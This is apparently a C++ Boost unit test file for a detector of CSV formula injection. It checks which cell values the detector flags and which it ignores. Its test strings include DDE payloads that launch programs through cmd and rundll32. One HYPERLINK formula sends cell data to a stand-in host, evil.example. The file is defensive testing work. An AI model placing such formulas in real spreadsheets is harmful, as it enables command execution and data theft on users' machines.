#include "detect/csv.hpp"

#include <boost/test/unit_test.hpp>

using gird::detect::Signs;

namespace {

std::string_view seen(std::string_view text) {
  Signs signs;
  gird::detect::csv_signs(text, signs);
  return signs.all().empty() ? std::string_view() : signs.all().front().name;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(csv)

BOOST_AUTO_TEST_CASE(formulas_that_start_programs) {
  BOOST_TEST(seen("=cmd|'/c calc'!A0") == "csv/dde");
  BOOST_TEST(seen("\t=rundll32|'URL.dll,OpenURL calc.exe'!A") == "csv/dde");
}

BOOST_AUTO_TEST_CASE(formulas_that_call) {
  BOOST_TEST(seen("=HYPERLINK(\"http://evil.example?x=\"&A1)") == "csv/call");
  BOOST_TEST(seen("+SUM(1,1)") == "csv/call");
}

BOOST_AUTO_TEST_CASE(what_only_starts_like_one) {
  for (const std::string_view text :
       {"", "=", "-5%", "=) thanks", "-x (see below)", "+49 30 123456", "= a | b !", "cmd|x!y"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == ""); }
  }
}

BOOST_AUTO_TEST_SUITE_END()
